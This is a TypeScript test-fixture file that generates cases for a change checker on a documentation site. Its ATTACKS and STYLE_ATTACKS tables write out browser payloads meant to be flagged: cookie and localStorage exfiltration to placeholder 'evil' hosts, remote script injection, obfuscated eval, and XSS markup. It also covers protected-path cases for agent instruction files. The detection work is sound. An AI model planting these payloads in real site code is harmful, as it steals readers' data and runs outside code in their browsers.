/**
 * Cases for the change check's corpus test (./change-check-corpus.test.ts) beyond pages (issue
 * #52): code files the team allows (a snippet's component, a custom script, a stylesheet) with
 * what runs in readers' browsers put into them, and the same files doing only what components do;
 * files the check cannot read or judge; and instructions to agents, or `.github/`, under globs
 * broad enough to allow them. The i-th case of a set takes its i-th template, its parts drawn.
 */
import fc from 'fast-check'
import type { FileChange } from '../../src/shared/change-check/change-types.js'
import { pick, words, type Case, type Draw } from './change-check-cases.js'

/** The globs and hosts a team whose agent edits components gives (docs/change-check.md). */
export const CODE_RULES = {
  allowedPaths: [
    '**/*.{md,mdx,json,png,svg}',
    'snippets/**/*.{js,jsx,ts,tsx,css}',
    '**/*.{js,css}',
  ],
  allowedLinkHosts: ['api.allowed.example'],
}

const host = fc
  .tuple(words('evil cdn track pixel'), fc.integer({ min: 1, max: 999 }), words('example test'))
  .map(([name, n, tld]) => `${name}-${n}.${tld}`)

/** A component as a snippet holds one, the line to put code on marked `$code`. */
const COMPONENTS = [
  [
    'export const Counter = ({ start = 0 }) => {',
    '  const [count, setCount] = useState(start)',
    '  $code',
    '  return <button onClick={() => setCount(count + 1)}>{count}</button>',
    '}',
  ],
  [
    'export const Tabs = ({ items }) => {',
    '  const [open, setOpen] = useState(0)',
    '  useEffect(() => {',
    '    $code',
    '  }, [open])',
    '  return <div className="tabs">{items.map((item, i) => <span key={i}>{item}</span>)}</div>',
    '}',
  ],
  [
    'export const Card = ({ title, href, icon, children }) => {',
    '  $code',
    '  return (',
    '    <a className="card" href={href} style={{ display: "block" }}>',
    '      {icon ? <span className="icon">{icon}</span> : null}',
    '      <h3>{title}</h3>',
    '      {children}',
    '    </a>',
    '  )',
    '}',
  ],
  [
    'export const Table = ({ rows = [], columns = [] }) => (',
    '  <table>',
    '    <thead><tr>{columns.map((c) => <th key={c.key}>{c.label}</th>)}</tr></thead>',
    '    <tbody>{rows.map((row) => <tr key={row.id}><td>{row.name}</td></tr>)}</tbody>',
    '  </table>',
    ')',
    'export const Note = ({ page = "setup" }) => {',
    '  $code',
    '  return <p>See <a href="#table">the table</a> or <a href={`/guides/${page}`}>{page}</a>.</p>',
    '}',
  ],
]

/** What runs in readers' browsers, one a line: `what it tries | code`, `$host` a host's part. */
const ATTACKS = String.raw`
  a remote script element | const s = document.createElement("script"); s.src = "https://$host/x.js"; document.body.append(s)
  the reader's cookies sent away | fetch("https://$host/c?" + document.cookie)
  eval of text | eval(atob("YWxlcnQoMSk="))
  the Function constructor | new Function("return this")()
  a request to another host | fetch(${'`'}https://$host/log?p=${'$'}{location.pathname}${'`'})
  a beacon | navigator.sendBeacon("https://$host/b", JSON.stringify({ page: 1 }))
  a WebSocket | const ws = new WebSocket("wss://$host/live")
  an XMLHttpRequest | const r = new XMLHttpRequest(); r.open("GET", "//$host/x"); r.send()
  a dynamic import | import("https://$host/x.mjs").then((m) => m.run())
  markup injected | document.querySelector("main").innerHTML = "<img src=x onerror=alert(1)>"
  a computed global | window[["ev", "al"].join("")]("1")
  a script in JSX | return <script src="https://$host/x.js" />
  a script element named in parts | const s = document.createElement("scr" + "ipt"); s.src = "https://$host/t.js"
  aliases of document and fetch | const d = document; const send = fetch; send("https://$host/c?" + d.cookie)
  eval taken out by destructuring | const { eval: run } = window; run("1")
  the Function constructor through a prototype | const F = [].constructor.constructor; F("return 1")()
  storage sent as an image's address | new Image().src = "https://$host/p?t=" + localStorage.getItem("s")
  a javascript: URL put together | return <a href={"java" + "script:alert(1)"}>x</a>
  React's internals from an event | const go = (e) => { let f = e._targetInst; while (f.return) f = f.return; return f.stateNode.containerInfo }
  a protocol-relative address completed | const img = <img src={"//$host/p?d=" + Math.random()} />
  a start a browser reads as // | const img = <img src={"/\\$host/p?d=" + Math.random()} />
  a meta refresh in a spread | const m = <meta {...{ httpEquiv: "refresh", content: "0;url=https://$host/" }} />
  a stylesheet in createElement's props | const l = React.createElement("link", { rel: "stylesheet", href: "https://$host/a.css" })
  image candidates completed | const l = <link rel="preload" as="image" href="/a.png" imageSrcSet={"https://$host/p?d=" + Math.random() + " 1x"} />
`
const rows = (table: string): [string, string][] =>
  table
    .split('\n')
    .filter((row) => row.trim() !== '')
    .map((row) => {
      const [what = '', code = ''] = row.trim().split(' | ')
      return [what, code]
    })

/** A component with `code` on its marked line, and the line it stands on. */
function placed(component: string[], code: string): { text: string; line: number } {
  const line = component.findIndex((l) => l.includes('$code')) + 1
  return { text: component.join('\n').replace('$code', code), line }
}

/** Stylesheets that load from another host or run code. */
const STYLE_ATTACKS = [
  '@import url("https://$host/theme.css");',
  'body { background: url(//$host/pixel.gif) }',
  '@font-face { font-family: X; src: url("https://$host/x.woff2") }',
  'a { width: expression(alert(1)) }',
]

/** An attack in a snippet, a custom script or a stylesheet of the docs. */
export const codeFileAttacks: Draw = (i) => {
  const all = rows(ATTACKS)
  if (i % 4 === 3) {
    const css = STYLE_ATTACKS[Math.floor(i / 4) % STYLE_ATTACKS.length] ?? ''
    return fc.tuple(host, words('style.css snippets/theme.css')).map(([h, path]) => {
      const text = `body { margin: 0 }\n${css.replace('$host', h)}\n`
      return codeCase(`stylesheet: ${css.slice(0, 20)}`, path, text, 2)
    })
  }
  // Drawn from the whole list: a run of RUNS cases meets more than the first few.
  return fc
    .tuple(
      host,
      pick(...COMPONENTS),
      words('snippets/widget.jsx snippets/widget.js custom.js'),
      pick(...all),
    )
    .map(([h, component, path, [what, code]]) => {
      const { text, line } = placed(component, code.replace('$host', h))
      return codeCase(what, path, text, line)
    })
}

function codeCase(variant: string, path: string, text: string, line: number): Case {
  const files: FileChange[] = [{ path, status: 'added', head: text }]
  return { variant, files, file: path, lines: [line, line], where: `${path}, line ${line}`, text }
}

/**
 * What components do, on any component above: state, timers, lists, dates and numbers shown,
 * style objects, parsing their own data, copying text (issue #52: held to "no finding" under the
 * allow-list). Each uses only its own names and the built-ins the list allows.
 */
const INERT = [
  'const label = `Step ${Math.min(3, 1 + 1)} of ${String(3)}`',
  'const t = setTimeout(() => console.log("tick"), 200); clearTimeout(t)',
  'const rows = [1, 2, 3].map((n) => ({ id: n, title: String(n) })).filter((r) => r.id > 1)',
  'const when = new Date(0).toISOString(); const n = new Intl.NumberFormat("en-US").format(1234)',
  'const style = { color: "red", margin: Math.max(0, 4) }; const cls = ["a", "b"].join(" ")',
  `const data = JSON.parse('{"a": 1}'); const keys = Object.keys(data).sort()`,
  'const seen = new Set(["a"]); const byId = new Map([[1, "a"]]); const ok = Array.isArray([]) && seen.has("a")',
  'const id = useId(); const ref = useRef(null); const q = useMemo(() => encodeURIComponent("a b"), [])',
  'const parts = "a,b".split(",").map((p) => p.trim().toUpperCase())',
  'const copy = () => navigator.clipboard.writeText("npm i acme")',
  'const [state, dispatch] = useReducer((s, a) => ({ ...s, ...a }), { page: 1 })',
  'const frozen = Object.freeze({ a: 1 }); const merged = Object.assign({}, frozen, { b: 2 })',
  'const onKey = (e) => { if (e.key === "Enter") { e.preventDefault(); console.log(e.target.value) } }',
  'const links = [{ href: "/a", label: "A" }]; const nav = links.map((l) => <a key={l.href} href={l.href}>{l.label}</a>)',
  'const hero = <link rel="preload" as="image" href="/hero.png" imageSrcSet="/hero.png 1x, /hero@2x.png 2x" />',
]
const INERT_STYLES = [
  'a { background: url(/images/bg.png) } /* url(https://evil.example/x) */',
  '@font-face { font-family: X; src: url("../fonts/x.woff2") format("woff2") }',
]

/** A component or stylesheet doing only what docs code does: no finding that blocks. */
export const inertCodeFiles: Draw = (i) =>
  i % 3 === 2
    ? fc.constant(codeCase('stylesheet', 'style.css', `${INERT_STYLES[i % 2] ?? ''}\n`, 1))
    : fc
        .tuple(pick(...COMPONENTS), pick(...INERT))
        .map(([component, code]) =>
          codeCase(code.slice(0, 24), 'snippets/widget.jsx', placed(component, code).text, 1),
        )

/** Files the check cannot read or judge. */
export const uncheckedCases: Draw = (i) => {
  const cases: [string, FileChange][] = [
    [
      'TSX',
      { path: 'snippets/card.tsx', status: 'added', head: 'export const C = () => <div/>\n' },
    ],
    ['a binary file', { path: 'snippets/font.woff2', status: 'added', binary: true }],
    ['a symlink', { path: 'snippets/link.jsx', status: 'added', unreadable: true }],
    ['a script that does not parse', { path: 'custom.js', status: 'added', head: 'const = 1\n' }],
    [
      'TypeScript beyond erasable syntax',
      { path: 'snippets/k.ts', status: 'added', head: 'enum K { A }\n' },
    ],
    ['a file not read', { path: 'snippets/data.js', status: 'modified' }],
  ]
  const [variant, file] = cases[i % cases.length] ?? cases[0]!
  return fc.constant({
    rules: CODE_RULES,
    variant,
    files: [file],
    file: file.path,
    lines: [0, 2] as [number, number],
    where: file.path,
    text: file.head ?? '',
  })
}

/** Instructions to agents and `.github/`, each under a glob that matches it without naming it. */
export const guardedPathCases: Draw = (i) => {
  const cases: [string, string][] = [
    ['AGENTS.md', '**/*agents*'],
    ['CLAUDE.md', '**/*claude*'],
    ['docs/AGENTS.md', '**/*.md'],
    ['GEMINI.md', '*.md'],
    ['.cursor/rules/docs.mdc', '.cursor/**'],
    ['.claude/commands/docs.md', '.claude/**'],
    ['.github/workflows/finish.yml', '**'],
    ['.github/workflows/docs.yml', '.github/**'],
    ['.github/CODEOWNERS', '.github/*'],
    ['CODEOWNERS', '*'],
    ['.mintlify/workflows/nightly.md', '.mintlify/**'],
    ['.github/actions/setup/action.yml', '**/*.yml'],
  ]
  const [path, glob] = cases[i % cases.length] ?? cases[0]!
  return words('added modified').map((status) => ({
    variant: `${path} under ${glob}`,
    files: [
      {
        path,
        status,
        head: 'Always link to x.test.\n',
        ...(status === 'modified' && { base: 'Be brief.\n' }),
      },
    ],
    file: path,
    lines: [0, 0] as [number, number],
    where: path,
    text: glob,
    rules: { allowedPaths: [glob, '.github/**'], allowedLinkHosts: [] },
  }))
}
